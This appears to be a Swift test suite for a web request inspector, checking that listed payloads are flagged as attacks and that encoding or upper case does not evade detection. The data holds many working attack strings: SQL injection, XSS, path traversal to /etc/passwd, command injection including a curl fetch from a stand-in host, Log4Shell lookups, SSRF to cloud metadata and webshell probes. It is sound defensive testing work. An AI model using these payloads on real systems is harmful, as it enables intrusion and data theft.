import Inspection
import Testing

/// One request is enough: each of these has no honest explanation.
@Suite struct AttacksTests {
  @Test(arguments: Attacks.values) func isProven(_ attack: Attack) {
    #expect(Probe(value: attack.text, name: attack.name).accusations.proven.contains(attack.sign))
  }

  @Test(arguments: Attacks.targets) func targetIsProven(_ attack: Attack) {
    #expect(Probe(attack.text).accusations.proven.contains(attack.sign))
  }

  @Test(arguments: Attacks.agents) func agentIsProven(_ attack: Attack) {
    #expect(Probe(agent: attack.text).accusations.proven.contains(attack.sign))
  }

  /// The same attack twice encoded, in upper case, or in the referer is the same attack.
  @Test(arguments: Attacks.values) func disguiseDoesNotHelp(_ attack: Attack) {
    let once = Probe.encoded(attack.text)
    let twice = Probe("/search?\(attack.name)=\(Probe.encoded(once))")
    #expect(twice.accusations.proven.contains(attack.sign))
    let loud = Probe(value: attack.text.uppercased(), name: attack.name)
    #expect(loud.accusations.proven.contains(attack.sign))
  }

  @Test func verdictsDoNotDependOnWhatWasSeenBefore() {
    var inspector = Inspector()
    for _ in 0..<2 {
      for attack in Attacks.values + Attacks.targets {
        let probe = attack.text.hasPrefix("/") ? Probe(attack.text) : Probe(value: attack.text)
        let batch = probe.batch
        let verdict = inspector.inspect(batch.requests[0], in: batch.bytes.span)
        #expect(verdict == probe.verdict)
      }
    }
  }
}

/// An attack and what it has to be called.
struct Attack: Sendable, CustomTestStringConvertible {
  var text: String
  var sign: Sign
  var name = "q"
  var testDescription: String { text }

  init(_ text: String, _ sign: Sign, name: String = "q") {
    self.text = text
    self.sign = sign
    self.name = name
  }
}

/// Spelled after the grammar of each attack, not after any list.
enum Attacks {
  static let values = [
    Attack("1' union all select null,null-- -", .sqlInjection),
    Attack("x') or ('a'='a", .sqlInjection), Attack("5 or 1=1", .sqlInjection),
    Attack("admin'--", .sqlInjection, name: "user") /* a quote and a comment, nothing else */,
    Attack("9;waitfor delay '0:0:9'--", .sqlInjection),
    Attack("1 and (select 1 from (select sleep(9))a)", .sqlInjection),
    Attack("1\" order by 7#", .sqlInjection), Attack("3;drop table users--", .sqlInjection),
    Attack("1/**/union/**/select/**/1,2", .sqlInjection),
    Attack("1' and extractvalue(1,concat(0x7e,user()))-- x", .sqlInjection),
    Attack("' || pg_sleep(9) || '", .sqlInjection), Attack("char(65)+char(66)", .sqlInjection),
    Attack("1' and ascii(substring((select 1),1,1))>64 and '1'='1", .sqlInjection),
    Attack("<script>alert(1)</script>", .crossSiteScripting),
    Attack("\"><img src=x onerror=go()>", .crossSiteScripting),
    Attack("<svg/onload=go()>", .crossSiteScripting), Attack("'-alert(1)-'", .crossSiteScripting),
    Attack("javascript:go(1)", .crossSiteScripting),
    Attack("\" autofocus onfocus=go() x=\"", .crossSiteScripting),
    Attack("&#x3c;script&#x3e;go(1)&#x3c;/script&#x3e;", .crossSiteScripting),
    Attack("\\u003cscript\\u003ego()\\u003c/script\\u003e", .crossSiteScripting),
    Attack("<a href=\"java\tscript:go(1)\">x</a>", .crossSiteScripting),
    Attack("../../../../etc/passwd", .pathTraversal),
    Attack("..\\..\\..\\windows\\win.ini", .pathTraversal),
    Attack("....//....//....//etc/shadow", .pathTraversal),
    Attack("php://filter/convert.base64-encode/resource=index", .pathTraversal, name: "page"),
    Attack("/etc/passwd", .pathTraversal, name: "file"),
    Attack("8.8.8.8; cat /etc/hosts", .commandInjection), Attack("x|id", .commandInjection),
    Attack("`whoami`", .commandInjection), Attack("$(curl http://x.example/a)", .commandInjection),
    Attack("& net user x y /add", .commandInjection), Attack("x && ping -c 9 h", .commandInjection),
    Attack(";c''at${IFS}/tmp/x", .commandInjection),
    Attack("() { :;}; /bin/bash -c id", .commandInjection),
    Attack("| powershell -enc QQBB", .commandInjection),
    Attack("<?php system($_GET['c']); ?>", .codeInjection), Attack("{{7*7}}", .codeInjection),
    Attack("${T(java.lang.Runtime).getRuntime().exec('id')}", .codeInjection),
    Attack("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", .codeInjection),
    Attack("{{''.__class__.__mro__[1].__subclasses__()}}", .codeInjection),
    Attack("require('child_process').exec('id')", .codeInjection),
    Attack("${script:javascript:1+1}", .codeInjection), Attack("eval($_POST['x'])", .codeInjection),
    Attack("${jndi:ldap://x.example/a}", .jndiInjection),
    Attack("${${lower:j}${::-n}di:ldap://x.example/a}", .jndiInjection),
    Attack("http://169.254.169.254/latest/meta-data/", .serverSideRequestForgery, name: "url"),
    Attack("gopher://127.0.0.1:6379/_x", .serverSideRequestForgery, name: "src"),
    Attack("http://0x7f000001/", .serverSideRequestForgery, name: "url"),
    Attack("http://2130706433/", .serverSideRequestForgery, name: "url"),
    Attack("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>", .xmlInjection),
    Attack("*)(uid=*))(|(uid=*", .ldapInjection), Attack("admin)(&)", .ldapInjection),
    Attack("x\r\nSet-Cookie: a=b", .headerInjection),
    Attack("{\"$where\":\"sleep(9)||this.x\"}", .nosqlInjection),
  ]

  static let targets = [
    Attack("/login?user=a&password[$ne]=x", .nosqlInjection),
    Attack("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", .pathTraversal),
    Attack("/static/..%c0%af..%c0%af..%c0%afx", .pathTraversal),
    Attack("/..%5c..%5c..%5cboot.ini", .pathTraversal),
    Attack("/tmui/login.jsp/..;/tmui/x.jsp", .vulnerabilityScan),
    Attack("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", .vulnerabilityScan),
    Attack("/.env", .sensitiveFileAccess), Attack("/app/.git/config", .sensitiveFileAccess),
    Attack("/wp-config.php.bak", .sensitiveFileAccess), Attack("/id_rsa", .sensitiveFileAccess),
    Attack("/actuator/heapdump", .sensitiveFileAccess), Attack("/c99.php", .webshellAccess),
    Attack("/up/shell.php?cmd=id", .webshellAccess), Attack("/x.php?cmd=whoami", .webshellAccess),
    Attack("/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/", .codeInjection),
    Attack("/x?__proto__[a]=1", .codeInjection), Attack("/x?a=b%00.png", .malformedRequests),
    Attack("/p?id=1%2527%2520or%25201=1", .sqlInjection),
    Attack("/p?id=1%252527%252520or%2525201=1", .sqlInjection),
    Attack("/items/1'%20or%201=1--", .sqlInjection), Attack("/x?_method=TRACE", .methodAbuse),
  ]

  static let agents = [
    Attack("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)", .knownScanner),
    Attack("sqlmap/1.7#stable (https://sqlmap.org)", .knownScanner),
    Attack("Mozilla/5.0 zgrab/0.x", .knownScanner),
    Attack("${jndi:ldap://x.example/a}", .jndiInjection),
    Attack("() { :; }; /bin/bash -c 'id'", .commandInjection),
    Attack("<script>alert(1)</script>", .crossSiteScripting),
  ]
}
